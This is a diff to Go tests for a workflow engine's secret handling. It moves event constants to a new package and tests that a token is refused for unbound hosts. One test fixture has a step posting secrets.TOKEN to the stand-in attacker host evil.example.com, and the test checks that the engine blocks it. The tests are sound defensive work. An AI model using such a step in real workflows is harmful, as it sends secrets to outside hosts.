@@ -10,6 +10,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 	"github.com/pdflow/pdflow/engine"
 	"github.com/pdflow/pdflow/engine/action"
+	"github.com/pdflow/pdflow/engine/run"
 )
 
 const secretText = "sw0rdf1sh"
@@ -70,7 +71,7 @@ func TestSecretIsRevealedWhereItIsBound(t *testing.T) {
 				t.Errorf("sent (-want +got):\n%s", diff)
 			}
 			want := any(map[string]any{"$secret": "TOKEN"})
-			got := h.calls(engine.CallStarted)[0].Input["token"]
+			got := h.calls(run.EventCallStarted)[0].Input["token"]
 			if secret, ok := got.(action.Secret); !ok || secret.Name != "TOKEN" {
 				t.Errorf("got %v recorded, want the reference %v", got, want)
 			}
@@ -82,7 +83,7 @@ func TestSecretIsRefusedElsewhere(t *testing.T) {
 	var sent []string
 	h := poster(&sent)
 	got := h.run(t, secretHead+"steps:\n- lua: |\n    demo.post{host = 'other.example.com', token = secrets.TOKEN}\n")
-	mustFail(t, got, engine.Failed, action.Permission)
+	mustFail(t, got, run.Failed, action.Permission)
 	if len(sent) > 0 || !strings.Contains(got.Error.Message, "TOKEN may not go to other.example.com") ||
 		!strings.Contains(got.Error.Hint, "api.example.com, other.example.com") {
 		t.Errorf("got %+v after sending %v, want what to bind it to", got.Error, sent)
@@ -134,7 +135,7 @@ func TestErrorsReachScriptsRedacted(t *testing.T) {
 func TestReturnedSecretIsNamed(t *testing.T) {
 	var sent []string
 	got := poster(&sent).run(t, secretHead+"steps:\n- lua: |\n    return {a = {1, secrets.TOKEN}}\n")
-	mustFail(t, got, engine.Failed, action.InvalidInput)
+	mustFail(t, got, run.Failed, action.InvalidInput)
 	if want := "outputs.a[2] is ‹secret TOKEN›: a secret cannot be returned"; got.Error.Message != want {
 		t.Errorf("got %q, want %q", got.Error.Message, want)
 	}
@@ -200,14 +201,14 @@ steps:
   with: {host: evil.example.com, token: "${{ secrets.TOKEN }}"}
 `
 	got := h.run(t, source)
-	mustFail(t, got, engine.Failed, action.Permission)
+	mustFail(t, got, run.Failed, action.Permission)
 	want := any(action.Object{
 		"ok": false, "kind": "permission", "action": "demo.post", "hint": `add it: permissions: {http: ["https://evil.example.com"]}`,
 	})
 	if diff := cmp.Diff(want, got.Steps[0].Outputs); diff != "" {
 		t.Errorf("what the script sees (-want +got):\n%s", diff)
 	}
-	if len(sent) > 0 || len(h.calls(engine.CallStarted)) > 0 {
-		t.Errorf("got %v sent and %d calls recorded, want none", sent, len(h.calls(engine.CallStarted)))
+	if len(sent) > 0 || len(h.calls(run.EventCallStarted)) > 0 {
+		t.Errorf("got %v sent and %d calls recorded, want none", sent, len(h.calls(run.EventCallStarted)))
 	}
 }
